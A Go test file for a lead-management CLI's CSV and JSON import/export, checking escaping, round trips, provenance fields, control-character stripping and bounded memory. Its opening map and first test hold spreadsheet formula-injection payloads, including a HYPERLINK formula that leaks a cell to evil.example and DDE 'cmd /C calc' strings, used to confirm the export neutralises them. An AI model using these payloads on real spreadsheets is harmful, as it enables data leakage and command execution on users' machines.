package cli

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/clientele/clientele/store"
)

// crawledFormulas are values a crawled page may hold that a spreadsheet would run.
var crawledFormulas = map[string]string{
	"name":     `=HYPERLINK("https://evil.example/?x="&A1,"Acme")`,
	"city":     `+cmd|' /C calc'!A0`,
	"category": `@SUM(1+1)*cmd|' /C calc'!A0`,
	"address":  `-2+3+cmd|' /C calc'!A0`,
	"phone":    `+351 210 000 001`,
	"source":   `'=already quoted`,
	"country":  ``,
	"website":  `''twice`,
}

func TestCSVExportWritesNoFormulas(t *testing.T) {
	a := newTestEnv(t)
	src := "name,email,city,category,address,phone,source,website,notes\n" +
		`"=HYPERLINK(""https://evil.example/?x=""&A1,""Acme"")",info@acme.example,+cmd|' /C calc'!A0,@SUM(1+1)*cmd|' /C calc'!A0,-2+3+cmd|' /C calc'!A0,+351 210 000 001,''=already quoted,'''twice,=1+1` + "\n" +
		"'s-Hertogenbosch Bikes,bikes@hertog.example,'s-Hertogenbosch,bikes,,,import,,-\n"
	if _, stderr, code := a.run("leads", "import", a.write("in.csv", src)); code != 0 {
		t.Fatalf("import: %s", stderr)
	}
	js, _, _ := a.run("leads", "export", "--format", "json")
	var recs []map[string]any
	if err := json.Unmarshal([]byte(js), &recs); err != nil {
		t.Fatal(err)
	}
	for field, want := range crawledFormulas {
		if field == "country" {
			continue
		}
		if got := recs[0][field]; got != want {
			t.Errorf("json %s = %q, want it as found %q", field, got, want)
		}
	}
	if recs[0]["extra"].(map[string]any)["notes"] != "=1+1" || recs[1]["city"] != "'s-Hertogenbosch" {
		t.Errorf("json changed values: %v / %v", recs[0]["extra"], recs[1]["city"])
	}

	first, _, code := a.run("leads", "export", "--format", "csv")
	if code != 0 {
		t.Fatal("export failed")
	}
	rows, err := csv.NewReader(strings.NewReader(first)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		for _, c := range row {
			if c != "" && strings.ContainsAny(c[:1], "=+-@\t\r") {
				t.Errorf("cell %q starts as a formula", c)
			}
		}
	}
	b := newTestEnv(t)
	if _, stderr, code := b.run("leads", "import", b.write("round.csv", first)); code != 0 {
		t.Fatalf("re-import: %s", stderr)
	}
	second, _, _ := b.run("leads", "export", "--format", "csv")
	if first != second {
		t.Errorf("export → import → export changed the data:\n%s\n---\n%s", first, second)
	}
	js2, _, _ := b.run("leads", "export", "--format", "json")
	if strings.ReplaceAll(js2, `"id": 0`, "") != strings.ReplaceAll(js, `"id": 0`, "") {
		t.Errorf("json after the round trip differs:\n%s\n---\n%s", js, js2)
	}
}

func TestCSVEscapeRoundTrips(t *testing.T) {
	for _, v := range []string{"", "'", "''", "'''", "=", "'=", "''=", "'s-Hertogenbosch", "a=b", "-", "\t1", "@", "'@x", "+"} {
		e := csvEscape(v)
		if e != "" && strings.ContainsAny(e[:1], "=+-@\t\r") {
			t.Errorf("csvEscape(%q) = %q starts as a formula", v, e)
		}
		if got := csvUnescape(e); got != v {
			t.Errorf("csvUnescape(csvEscape(%q)) = %q (escaped %q)", v, got, e)
		}
	}
}

func TestProvenanceFieldsRoundTrip(t *testing.T) {
	a := newTestEnv(t)
	src := "name,email,country,source,source_url,email_source,outcome\n" +
		"Acme,info@acme.example,pt,bizdir,https://dir.example/c/plumbing?page=2,https://acme.example/contact,meeting\n" +
		"No Mail Co,,DE,bizdir,https://dir.example/c/plumbing,,\n" +
		"Bad,bad@x.example,Portugal,,,,\n" +
		"Bad2,bad2@x.example,,,,,maybe\n"
	_, stderr, code := a.run("leads", "import", a.write("in.csv", src))
	if code != 0 || !strings.Contains(stderr, "in.csv:4:") || !strings.Contains(stderr, "in.csv:5:") {
		t.Fatalf("import: exit %d\n%s", code, stderr)
	}
	show, _, _ := a.run("leads", "show", "info@acme.example")
	for _, want := range []string{"PT", "https://dir.example/c/plumbing?page=2", "https://acme.example/contact", "meeting"} {
		if !strings.Contains(show, want) {
			t.Errorf("leads show lacks %q:\n%s", want, show)
		}
	}
	var recs []map[string]any
	js, _, _ := a.run("leads", "export")
	if err := json.Unmarshal([]byte(js), &recs); err != nil || len(recs) != 2 {
		t.Fatalf("json export: %v\n%s", err, js)
	}
	want := map[string]any{"country": "PT", "source_url": "https://dir.example/c/plumbing?page=2",
		"email_source": "https://acme.example/contact", "outcome": "meeting"}
	for k, v := range want {
		if recs[0][k] != v {
			t.Errorf("json %s = %v, want %v", k, recs[0][k], v)
		}
	}
	if e, ok := recs[1]["email"]; !ok || e != "" {
		t.Errorf("a lead without email exports email %v (present %v), want \"\"", e, ok)
	}
	list, _, _ := a.run("leads", "list", "--json")
	if !strings.Contains(list, `"email": ""`) {
		t.Errorf("leads list --json lacks the empty email:\n%s", list)
	}
	csv1, _, _ := a.run("leads", "export", "--format", "csv")
	b := newTestEnv(t)
	if _, stderr, code := b.run("leads", "import", b.write("round.csv", csv1)); code != 0 {
		t.Fatalf("re-import: %s", stderr)
	}
	if csv2, _, _ := b.run("leads", "export", "--format", "csv"); csv2 != csv1 {
		t.Errorf("round trip changed the data:\n%s\n---\n%s", csv1, csv2)
	}
}

func TestImportStripsControlCharacters(t *testing.T) {
	e := newTestEnv(t)
	src := "name,email,city,notes\n\"Acme\x00 Plumb\x1b[31ming\",info@acme.example,\"Lis\rboa\",\"a\x07b\"\n"
	if _, stderr, code := e.run("leads", "import", e.write("nul.csv", src)); code != 0 {
		t.Fatalf("import: %s", stderr)
	}
	js, _, _ := e.run("leads", "export")
	var recs []map[string]any
	if err := json.Unmarshal([]byte(js), &recs); err != nil {
		t.Fatal(err)
	}
	if recs[0]["name"] != "Acme Plumb[31ming" || recs[0]["city"] != "Lis boa" || recs[0]["extra"].(map[string]any)["notes"] != "ab" {
		t.Errorf("control characters kept: %q %q %v", recs[0]["name"], recs[0]["city"], recs[0]["extra"])
	}
}

// A field far over the limit is refused with its line, the rows around it are imported,
// and the import's memory does not grow with the field.
func TestImportRefusesHugeFieldsInBoundedMemory(t *testing.T) {
	const huge = 32 << 20
	var src bytes.Buffer
	src.WriteString("name,email,notes\n")
	src.WriteString("Before,before@ok.example,short\n")
	src.WriteString(`Huge,huge@ok.example,"`)
	chunk := strings.Repeat("x, \"\"y\"\"\n", 1024)
	for src.Len() < huge {
		src.WriteString(chunk)
	}
	src.WriteString("\"\n")
	src.WriteString(strings.Repeat("N", 3<<10) + ",longname@ok.example,\n")
	src.WriteString("Big Notes,bignotes@ok.example," + strings.Repeat("n", 70<<10) + "\n")
	src.WriteString("After,after@ok.example,short\n")
	data := src.Bytes()

	db, err := store.Open(filepath.Join(t.TempDir(), "c.db"), store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	var out, errw bytes.Buffer
	runtime.GC()
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	err = importCSV(db, bytes.NewReader(data), "big.csv", &out, &errw, time.Now)
	runtime.ReadMemStats(&after)
	if err != nil {
		t.Fatal(err)
	}
	if alloc := after.TotalAlloc - before.TotalAlloc; alloc > huge/4 {
		t.Errorf("import of a %d MiB field allocated %d MiB; it must not grow with the field", huge>>20, alloc>>20)
	}
	msgs := errw.String()
	for _, want := range []string{"big.csv:3: skipped: the row is longer", "big.csv:", "name is 3072 bytes", "notes is 71680 bytes"} {
		if !strings.Contains(msgs, want) {
			t.Errorf("report lacks %q:\n%s", want, msgs)
		}
	}
	if !strings.Contains(out.String(), "5 rows: 2 new leads") || !strings.Contains(out.String(), "3 rows skipped") {
		t.Errorf("summary %q", out.String())
	}
	n, _ := db.CountLeads()
	if n != 2 {
		t.Errorf("%d leads stored, want 2", n)
	}
}

// Rows keep their line numbers across quoted fields that span lines, and blank lines are
// not rows.
func TestImportLineNumbersAcrossMultilineFields(t *testing.T) {
	db, err := store.Open(filepath.Join(t.TempDir(), "c.db"), store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	src := "name,email,address\n\"A\",a@ok.example,\"line 1\nline 2\nline 3\"\n\nB,bad,\nC,c@ok.example,x\"y\nD,d@ok.example,\"\"\"quoted\"\"\"\n"
	var out, errw bytes.Buffer
	if err := importCSV(db, strings.NewReader(src), "m.csv", &out, &errw, time.Now); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(errw.String(), "m.csv:6: skipped") || !strings.Contains(errw.String(), "m.csv:7: skipped") {
		t.Errorf("lines reported:\n%s", errw.String())
	}
	if !strings.Contains(out.String(), "4 rows: 2 new leads") {
		t.Errorf("summary %q (%s)", out.String(), errw.String())
	}
	l, err := db.LeadByEmail("d@ok.example")
	if err != nil || l.Address != `"quoted"` {
		t.Errorf("d: %+v %v", l, err)
	}
}
